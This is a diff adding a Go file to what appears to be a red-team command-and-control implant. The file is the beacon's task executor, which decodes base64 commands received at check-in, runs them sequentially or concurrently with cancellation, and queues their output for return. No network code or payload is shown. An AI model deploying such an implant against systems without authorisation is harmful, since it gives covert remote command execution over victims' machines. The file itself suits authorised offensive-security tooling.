@@ -0,0 +1,110 @@
+package main
+
+import (
+	"context"
+	"encoding/base64"
+	"fmt"
+	"redbull/internal/rbhttp"
+	"redbull/internal/rbqueue"
+	"sync"
+)
+
+// executor runs tasks in the background so the beacon keeps checking in, and
+// can receive cancellations, while long tasks run. Sequential tasks run one
+// at a time in the order they arrived; concurrent tasks start immediately.
+type executor struct {
+	sequential *rbqueue.Queue[rbhttp.TaskMessage]
+	running    map[string]context.CancelFunc
+	contexts   map[string]context.Context
+	sync.Mutex
+}
+
+func newExecutor() *executor {
+	e := &executor{
+		sequential: rbqueue.NewQueue[rbhttp.TaskMessage](),
+		running:    make(map[string]context.CancelFunc),
+		contexts:   make(map[string]context.Context),
+	}
+	go e.runSequential()
+	return e
+}
+
+// Submit hands a check-in's batch to the executor.
+func (e *executor) Submit(tasks []rbhttp.TaskMessage) {
+	for _, task := range tasks {
+		// Register every task up front so it can be cancelled before it starts
+		e.Lock()
+		ctx, cancel := context.WithCancel(context.Background())
+		e.running[task.TaskID] = cancel
+		e.contexts[task.TaskID] = ctx
+		e.Unlock()
+
+		if task.Concurrent {
+			go e.run(task)
+			continue
+		}
+		e.sequential.Append(task)
+	}
+}
+
+// Cancel stops the named tasks if they are still queued or running.
+func (e *executor) Cancel(taskIDs []string) {
+	e.Lock()
+	defer e.Unlock()
+
+	for _, taskID := range taskIDs {
+		if cancel, ok := e.running[taskID]; ok {
+			cancel()
+		}
+	}
+}
+
+func (e *executor) runSequential() {
+	for {
+		task, err := e.sequential.PopContext(context.Background())
+		if err != nil {
+			return
+		}
+		e.run(task)
+	}
+}
+
+func (e *executor) run(task rbhttp.TaskMessage) {
+	e.Lock()
+	ctx := e.contexts[task.TaskID]
+	e.Unlock()
+
+	defer func() {
+		e.Lock()
+		e.running[task.TaskID]()
+		delete(e.running, task.TaskID)
+		delete(e.contexts, task.TaskID)
+		e.Unlock()
+		flushResults()
+	}()
+
+	decoded, err := base64.StdEncoding.DecodeString(task.Command)
+	if err != nil {
+		queueResult(task.TaskID, "", "", err.Error(), true)
+		return
+	}
+	command := string(decoded)
+
+	if ctx.Err() != nil {
+		queueResult(task.TaskID, command, "", "error: task cancelled before it started", true)
+		return
+	}
+
+	taskCtx := *cmdCtx
+	taskCtx.Ctx = ctx
+	stdout, stderr, err := parseAndExecuteCommand(&taskCtx, command)
+
+	if err != nil {
+		stderr = fmt.Sprintf("%s\nerror: %s", stderr, err.Error())
+	}
+	if ctx.Err() != nil {
+		stderr = fmt.Sprintf("%s\nerror: task cancelled", stderr)
+	}
+
+	queueResult(task.TaskID, command, stdout, stderr, err != nil || ctx.Err() != nil)
+}